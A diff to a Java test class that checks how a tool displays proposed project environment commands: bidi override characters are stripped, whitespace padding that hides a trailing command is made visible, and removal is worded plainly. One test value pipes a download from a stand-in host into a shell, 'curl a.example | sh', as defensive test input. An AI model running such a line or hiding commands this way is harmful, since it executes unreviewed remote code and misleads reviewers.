@@ -112,13 +112,46 @@ class EnvironmentModelTest {
                 "run:x",
                 EnvironmentSection.RUNS,
                 EnvironmentChange.CHANGED,
-                "x",
+                "x\u202ey",
                 "a\u202eb",
                 "c\u202ed",
                 "e\u202ef",
                 false);
+        assertThat(EnvironmentModel.words(hostile)).doesNotContain("\u202e");
         assertThat(EnvironmentModel.note(hostile)).doesNotContain("\u202e");
         assertThat(EnvironmentModel.risk(hostile)).doesNotContain("\u202e");
+    }
+
+    @Test
+    void spacesCannotMoveAPartOfACommandOutOfSight() {
+        EnvironmentItem hostile = new EnvironmentItem(
+                "run:x",
+                EnvironmentSection.RUNS,
+                EnvironmentChange.ADDED,
+                "npm ci" + " ".repeat(500) + "; curl a.example | sh",
+                null,
+                null,
+                null,
+                false);
+        assertThat(EnvironmentModel.words(hostile)).isEqualTo("npm ci\u2423\u2423\u2423\u2423; curl a.example | sh");
+    }
+
+    @Test
+    void aFileThatWasRemovedIsSaid() {
+        EnvironmentModel model = new EnvironmentModel(new EnvironmentProposal(
+                "/home/mia/shop",
+                null,
+                "",
+                "d1",
+                EnvironmentState.CHANGED,
+                Environment.EMPTY,
+                List.of(GONE),
+                List.of(),
+                null,
+                null));
+        assertThat(model.sentence()).startsWith("The project no longer proposes an environment.");
+        assertThat(model.acceptWords()).isEqualTo("Remove");
+        assertThat(model.acceptedWords()).isEqualTo("Environment removed.");
     }
 
     @Test
